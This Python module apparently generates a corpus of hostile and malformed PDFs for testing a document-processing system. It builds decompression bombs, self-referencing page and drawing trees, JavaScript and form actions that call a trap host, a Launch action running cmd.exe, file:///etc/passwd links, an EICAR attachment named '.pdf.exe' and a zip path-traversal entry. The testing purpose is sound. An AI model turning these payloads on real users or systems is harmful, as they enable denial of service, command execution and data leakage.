"""Files that mean harm, or are broken in ways that harm: each kind is made anew for every number given."""

import io
import random
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, String

RECT = Array([0, 0, 600, 800])
Maker = Callable[[random.Random, str], bytes]
KINDS: dict[str, Maker] = {}
# In two pieces, so that a guard on this machine does not take this very file for what it stands for.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


def kind(make: Maker) -> Maker:
    """Note a kind of hostile file under the words of its function."""
    KINDS[make.__name__.replace("_", " ")] = make
    return make


def good(pages: int = 2, words: str = "Ordinary words") -> pikepdf.Pdf:
    """A small honest PDF to be spoilt."""
    made = pikepdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary())
        page.obj.Contents = made.make_stream(f"BT /F1 12 Tf 90 700 Td ({words} {number}) Tj ET".encode())
    return made


def saved(made: pikepdf.Pdf, **how: Any) -> bytes:
    """Its bytes."""
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


def action(kind: str, **more: Any) -> Dictionary:
    """Something a reader would do."""
    return Dictionary(S=Name(f"/{kind}"), **more)


def written(objects: list[bytes], root: int = 1) -> bytes:
    """A file of raw objects, numbered from 1, with a true table of where they stand."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, table)
    return bytes(out)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


@kind
def locked_with_a_password(chance: random.Random, trap: str) -> bytes:
    return saved(good(), encryption=Encryption(owner="o", user="u", R=chance.choice([4, 6])))


@kind
def limited_with_a_password(chance: random.Random, trap: str) -> bytes:
    return saved(good(), encryption=Encryption(owner="o", user="", R=chance.choice([4, 6])))


@kind
def cut_short(chance: random.Random, trap: str) -> bytes:
    whole = saved(good(chance.randint(1, 9)))
    return whole[: chance.randint(9, len(whole) - 1)]


@kind
def with_a_broken_table(chance: random.Random, trap: str) -> bytes:
    whole = saved(good())
    at = whole.rindex(b"startxref") + 10
    return whole[:at] + str(chance.randint(0, 10**9)).encode() + b"\n%%EOF"


@kind
def with_bytes_changed(chance: random.Random, trap: str) -> bytes:
    whole = bytearray(saved(good(3)))
    for _ in range(chance.randint(1, 60)):
        whole[chance.randrange(9, len(whole))] = chance.randrange(256)
    return bytes(whole)


@kind
def a_bomb(chance: random.Random, trap: str) -> bytes:
    packer = zlib.compressobj(9)
    piece = bytes([chance.randrange(256)]) * (1 << 20)
    packed = b"".join(packer.compress(piece) for _ in range(70)) + packer.flush()
    return _with_stream(packed, 1)


@kind
def a_bomb_in_a_bomb(chance: random.Random, trap: str) -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(70)) + packer.flush()
    return _with_stream(zlib.compress(packed, 9), chance.choice([2, 3]))


def _with_stream(packed: bytes, times: int) -> bytes:
    made = good()
    stream = made.make_stream(b"x")
    stream.write(packed, filter=Array([Name.FlateDecode] * times))
    made.pages[0].obj.Resources.XObject.X = stream
    return saved(made)


@kind
def of_a_hundred_thousand_objects(chance: random.Random, trap: str) -> bytes:
    head = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE]
    return written(head + [b"[]"] * 100_000)


@kind
def of_countless_pages(chance: random.Random, trap: str) -> bytes:
    count = chance.choice([3_030, 50_000])
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", tree, *[PAGE] * count])


@kind
def whose_pages_lead_back(chance: random.Random, trap: str) -> bytes:
    made = good()
    made.Root.Pages.Kids.append(made.Root.Pages)
    return saved(made)


@kind
def whose_pages_double_at_every_step(chance: random.Random, trap: str) -> bytes:
    depth = chance.randint(12, 40)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        below = b"%d 0 R" % (level + 3)
        objects.append(b"<< /Type /Pages /Kids [%s %s] /Count %d >>" % (below, below, 2 ** (depth - level)))
    return written([*objects, PAGE])


@kind
def whose_outline_leads_back(chance: random.Random, trap: str) -> bytes:
    made = good()
    line = made.make_indirect(Dictionary(Title=String("a")))
    line.Next, line.First = line, line
    made.Root.Outlines = made.make_indirect(Dictionary(First=line, Last=line, Count=9))
    return saved(made)


@kind
def whose_drawing_draws_itself(chance: random.Random, trap: str) -> bytes:
    made = good()
    form = made.make_stream(b"/X Do /X Do", Type=Name.XObject, Subtype=Name.Form, BBox=RECT)
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    made.pages[0].obj.Resources.XObject.X = form
    made.pages[0].obj.Contents = made.make_stream(b"/X Do")
    return saved(made)


@kind
def whose_drawings_double_at_every_step(chance: random.Random, trap: str) -> bytes:
    made = good()
    form = made.make_stream(b"0 0 1 1 re f", Type=Name.XObject, Subtype=Name.Form, BBox=RECT)
    for _ in range(chance.randint(10, 24)):
        upper = made.make_stream(b"/X Do /X Do", Type=Name.XObject, Subtype=Name.Form, BBox=RECT)
        upper.Resources = Dictionary(XObject=Dictionary(X=form))
        form = upper
    made.pages[0].obj.Resources.XObject.X = form
    made.pages[0].obj.Contents = made.make_stream(b"/X Do")
    return saved(made)


@kind
def that_runs_a_script(chance: random.Random, trap: str) -> bytes:
    made = good()
    script = action("JavaScript", JS=String(f"this.submitForm('{trap}/js'); app.alert(1)"))
    where = chance.choice(["open", "names", "page", "additional"])
    if where == "open":
        made.Root.OpenAction = script
    elif where == "names":
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    elif where == "page":
        made.pages[0].obj.AA = Dictionary(O=script, C=script)
    else:
        made.Root.AA = Dictionary(WC=script, DP=script)
    return saved(made)


@kind
def that_starts_a_program(chance: random.Random, trap: str) -> bytes:
    acts = [
        action("Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
        action("URI", URI=String("file:///etc/passwd")),
        action("URI", URI=String("javascript:alert(1)")),
        action("GoToR", F=String("\\\\wessex.example\\share\\a.pdf"), D=Array([0, Name.Fit])),
        action("ImportData", F=String(f"{trap}/fdf")),
        action("SubmitForm", F=Dictionary(FS=Name.URL, F=String(f"{trap}/submit"))),
        action("GoToE", T=Dictionary(R=Name.C, N=String("a.exe"))),
        action("Rendition", JS=String("1")),
    ]
    made = good()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=RECT, A=chance.choice(acts))
    made.pages[0].obj.Annots = Array([link])
    return saved(made)


@kind
def with_a_program_inside(chance: random.Random, trap: str) -> bytes:
    made = good()
    made.attachments["a.pdf.exe"] = b"MZ\x90\x00" + EICAR
    if chance.random() < 0.5:
        made.Root.Collection = Dictionary(View=Name.H, D=String("a.pdf.exe"))
    return saved(made)


@kind
def that_points_to_other_files(chance: random.Random, trap: str) -> bytes:
    made = good()
    spec = Dictionary(FS=Name.URL, F=String(f"{trap}/stream"))
    spec = chance.choice([spec, Dictionary(F=String("/etc/passwd"))])
    made.pages[0].obj.Resources.XObject.X = made.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9, BitsPerComponent=8,
        ColorSpace=Name.DeviceGray, F=spec,
    )  # fmt: skip
    made.pages[0].obj.Contents = made.make_stream(b"/X Do")
    return saved(made)


@kind
def with_film_and_sound(chance: random.Random, trap: str) -> bytes:
    made = good()
    kinds = ["RichMedia", "Screen", "Movie", "Sound", "3D", "FileAttachment", "Widget", "Redact", "Stamp"]
    made.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name(f"/{name}"), Rect=RECT, F=4) for name in kinds]
    )
    return saved(made)


@kind
def with_a_form_that_sends(chance: random.Random, trap: str) -> bytes:
    made = good()
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("a"), Rect=RECT,
            A=action("SubmitForm", F=String(f"{trap}/form")),
        )
    )  # fmt: skip
    field.Parent = field
    made.pages[0].obj.Annots = Array([field])
    xfa = made.make_stream(f"<xdp><event><submit target='{trap}/xfa'/></event></xdp>".encode())
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa, NeedAppearances=True)
    return saved(made)


@kind
def of_impossible_size(chance: random.Random, trap: str) -> bytes:
    made = good()
    boxes = ([0, 0, 1_036_800, 1_036_800], [0, 0, 595, 1], [0, 0, 0, 0], [0, 0, -9, 10**12], [842, 595, 0, 0])
    made.pages[0].obj.MediaBox = Array(list(chance.choice(boxes)))
    return saved(made)


@kind
def with_a_box_that_is_none(chance: random.Random, trap: str) -> bytes:
    made = good()
    boxes = (Array([0, 0]), Array([Name.a] * 4), String("box"), Dictionary(), Array([Array([])] * 4))
    made.pages[0].obj.MediaBox = chance.choice(boxes)
    made.pages[0].obj.Rotate = chance.choice([45, 90])
    return saved(made)


@kind
def with_a_picture_of_nine_hundred_million_points(chance: random.Random, trap: str) -> bytes:
    made = good()
    packed = zlib.compress(bytes(1000))
    picture = made.make_stream(
        b"x", Type=Name.XObject, Subtype=Name.Image, Width=30_000, Height=30_000, BitsPerComponent=8,
        ColorSpace=Name.DeviceGray,
    )  # fmt: skip
    picture.write(packed, filter=Name.FlateDecode)
    made.pages[0].obj.Resources.XObject.X = picture
    made.pages[0].obj.Contents = made.make_stream(b"595 0 0 842 0 0 cm /X Do")
    return saved(made)


@kind
def with_pictures_that_are_none(chance: random.Random, trap: str) -> bytes:
    made = good()
    stream = made.make_stream(b"x", Type=Name.XObject, Subtype=Name.Image, Width=99, Height=99)
    names = ["DCTDecode", "JPXDecode", "JBIG2Decode", "CCITTFaxDecode", "RunLengthDecode", "LZWDecode"]
    stream.write(chance.randbytes(2000), filter=Name(f"/{chance.choice(names)}"))
    stream.BitsPerComponent = chance.choice([0, 1, 8, 99])
    made.pages[0].obj.Resources.XObject.X = stream
    made.pages[0].obj.Contents = made.make_stream(b"595 0 0 842 0 0 cm /X Do")
    return saved(made)


@kind
def with_fonts_that_are_none(chance: random.Random, trap: str) -> bytes:
    made = good()
    junk = made.make_stream(chance.randbytes(3000))
    told = Dictionary(Type=Name.FontDescriptor, FontFile2=junk, FontName=Name.X, Flags=4)
    font = Dictionary(Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.X, FontDescriptor=told)
    made.pages[0].obj.Resources.Font.F1 = made.make_indirect(font)
    return saved(made)


@kind
def with_nonsense_for_a_drawing(chance: random.Random, trap: str) -> bytes:
    made = good()
    parts = [b"q " * 9000, b"Q " * 900, b"BT " * 50, chance.randbytes(4000), b"[" * 5000, b"<<" * 3000]
    made.pages[0].obj.Contents = made.make_stream(b"".join(chance.sample(parts, 3)))
    return saved(made)


@kind
def nested_too_deeply(chance: random.Random, trap: str) -> bytes:
    deep = chance.choice([200, 20_000])
    inside = b"[" * deep + b"]" * deep
    head = b"<< /Type /Catalog /Pages 2 0 R /Odd 4 0 R >>"
    return written([head, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, inside])


@kind
def whose_tags_lead_back(chance: random.Random, trap: str) -> bytes:
    made = good()
    tree = made.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    tree.K = Array([tree, tree])
    made.Root.StructTreeRoot, made.Root.MarkInfo = tree, Dictionary(Marked=True)
    names = made.make_indirect(Dictionary())
    names.Kids = Array([names, names])
    made.Root.Names = Dictionary(Dests=names)
    return saved(made)


@kind
def that_is_a_page_of_the_web_too(chance: random.Random, trap: str) -> bytes:
    web = f"<html><script src='{trap}/poly'></script><body onload=alert(1)>".encode()
    return web + b"\n" + saved(good()) + b"\n</body></html>"


@kind
def that_is_an_archive_too(chance: random.Random, trap: str) -> bytes:
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w") as archive:
        archive.writestr("../../a.sh", "#!/bin/sh")
    return saved(good()) + box.getvalue()


@kind
def that_is_something_else(chance: random.Random, trap: str) -> bytes:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script href='{trap}/svg'/></svg>".encode()
    others = [
        b"",
        b"%PDF-1.7",
        b"%PDF-",
        svg,
        EICAR,
        b"MZ\x90\x00",
        b"\x89PNG\r\n\x1a\n",
        b"PK\x03\x04",
        b"\xff" * 99,
    ]
    return chance.choice(others)


def files(count: int, trap: str) -> list[tuple[str, bytes]]:
    """So many hostile files with their names, every kind in turn; the same count gives the same files."""
    kinds = list(KINDS.items())
    made = []
    for number in range(count):
        name, make = kinds[number % len(kinds)]
        made.append((f"a file {name} ({number})", make(random.Random(number), trap)))
    return made
